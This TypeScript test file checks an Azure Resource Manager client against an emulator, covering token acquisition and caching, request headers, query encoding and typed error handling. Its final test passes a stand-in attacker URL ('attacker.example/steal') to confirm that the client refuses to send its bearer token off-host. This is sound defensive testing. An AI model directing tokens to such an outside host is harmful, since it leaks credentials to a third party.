// The client's everyday path against the emulator: signing in through the real service-principal
// flow, headers ARM expects, URL building, typed errors for plain 4xx answers.
import * as assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { cachedTokenSource, TokenSource } from '../../../src/azure/tokenSource';
import { emulatorTokenSource, failureOf, testClient, useRoutedEmulator } from './clientFixture';
import { TEST_API } from './testRoutes';

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Echo = { headers: Record<string, string>; query: Record<string, string>; rest?: string; body?: any };

describe('ArmClient: sign-in, headers, plain errors', () => {
  const ready = useRoutedEmulator();

  it('gets a token from the emulator through ClientSecretCredential and sends it as a bearer', async () => {
    const e = ready();
    const { client } = testClient(e);
    const echo = await client.get<Echo>('/providers/Test.Client/echo', { query: { 'api-version': TEST_API } });
    assert.ok(echo);
    const token = echo.headers.authorization.replace(/^Bearer /, '');
    const claims = JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString()) as { tid?: unknown; appid?: unknown };
    assert.equal(claims.tid, e.tenantId);
    assert.equal(claims.appid, e.clientId);
    assert.equal(echo.headers.accept, 'application/json');
    assert.match(echo.headers['x-ms-client-request-id'], /^[0-9a-f-]{36}$/);
    assert.equal(echo.headers.clienttype, undefined, 'ClientType is for Cost Management only');
    client.dispose();
  });

  it('reuses one token for many requests, and asks once when many requests start together', async () => {
    const e = ready();
    let issued = 0;
    const inner = emulatorTokenSource(e);
    const counting: TokenSource = { kind: 'counting', getToken: (scope, o) => { issued += 1; return inner.getToken(scope, o); } };
    const { client } = testClient(e, { tokenSource: cachedTokenSource(counting) });
    await Promise.all(Array.from({ length: 6 }, () => client.get('/providers/Test.Client/echo', { query: { 'api-version': TEST_API } })));
    await client.get('/providers/Test.Client/echo', { query: { 'api-version': TEST_API } });
    assert.equal(issued, 1);
    client.dispose();
  });

  it('asks for a new token when the cached one is about to expire', async () => {
    const e = ready();
    let issued = 0;
    let clock = Date.now();
    // Tokens that live 10 minutes, refreshed 5 minutes before expiry.
    const source: TokenSource = { kind: 'fake', getToken: () => { issued += 1; return Promise.resolve({ token: e.issueToken(), expiresOnTimestamp: clock + 10 * 60_000 }); } };
    const cached = cachedTokenSource(source, { now: () => clock });
    await cached.getToken('s');
    clock += 4 * 60_000;
    await cached.getToken('s');
    assert.equal(issued, 1, 'still 6 minutes left: reused');
    clock += 2 * 60_000;
    await cached.getToken('s');
    assert.equal(issued, 2, '4 minutes left: inside the 5-minute margin, refreshed');
  });

  it('sends ClientType to Cost Management paths only', async () => {
    const { client } = testClient(ready(), { clientType: 'billing-insight-tests' });
    const echo = await client.get<Echo>('providers/Test.Client/scoped/subscriptions/abc/providers/Microsoft.CostManagement/dimensions', { query: { 'api-version': TEST_API } });
    assert.equal(echo?.headers.clienttype, 'billing-insight-tests');
    assert.equal(echo?.rest, 'subscriptions/abc/providers/Microsoft.CostManagement/dimensions');
    client.dispose();
  });

  it('encodes query values with %20, keeps $ names readable and never produces a second "?"', async () => {
    const { client, recorder } = testClient(ready());
    const filter = "OfferDurableId eq 'MS-AZR-0003P' and Currency eq 'USD'";
    const echo = await client.get<Echo>('/providers/Test.Client/echo?existing=1', { query: { 'api-version': TEST_API, $filter: filter, skipped: undefined } });
    assert.equal(echo?.query.$filter, filter);
    assert.equal(echo?.query.existing, '1');
    assert.equal('skipped' in (echo?.query ?? {}), false);
    const sent = recorder.events[0].url;
    assert.equal((sent.match(/\?/g) ?? []).length, 1);
    assert.match(sent, /\$filter=OfferDurableId%20eq%20(%27|')MS-AZR-0003P/);
    client.dispose();
  });

  it('POSTs a JSON body with Content-Type and returns the parsed answer', async () => {
    const { client } = testClient(ready());
    const echo = await client.send<Echo>('POST', '/providers/Test.Client/echo', { hello: ['world'] }, { query: { 'api-version': TEST_API } });
    assert.deepEqual(echo?.body, { hello: ['world'] });
    assert.match(echo?.headers['content-type'] ?? '', /^application\/json/);
    client.dispose();
  });

  it('returns undefined for 204 No Content', async () => {
    const { client } = testClient(ready());
    assert.equal(await client.send('POST', '/providers/Test.Client/nothing', {}, { query: { 'api-version': TEST_API } }), undefined);
    client.dispose();
  });

  it('turns an unknown api-version into a badRequest error with the ARM code and request ids, without retrying', async () => {
    const { client, recorder } = testClient(ready());
    const error = await failureOf(client.get('/providers/Test.Client/echo', { query: { 'api-version': '1999-01-01' } }));
    assert.equal(error.kind, 'badRequest');
    assert.equal(error.status, 400);
    assert.equal(error.code, 'InvalidApiVersionParameter');
    assert.match(error.message, /2024-01-01/);
    assert.match(error.requestId ?? '', /^[0-9a-f-]{36}$/);
    assert.ok(error.correlationId);
    assert.equal(recorder.count, 1);
    client.dispose();
  });

  it('turns an unknown resource type into notFound', async () => {
    const { client } = testClient(ready());
    const error = await failureOf(client.get('/providers/Microsoft.Billing/noSuchThings', { query: { 'api-version': '2024-04-01' } }));
    assert.equal(error.kind, 'notFound');
    assert.equal(error.code, 'InvalidResourceType');
    client.dispose();
  });

  it('refuses to send its token to a host other than the ARM endpoint', async () => {
    const { client, recorder } = testClient(ready());
    const error = await failureOf(client.get('https://attacker.example/steal', {}));
    assert.equal(error.kind, 'invalidResponse');
    assert.equal(recorder.count, 0);
    client.dispose();
  });
});
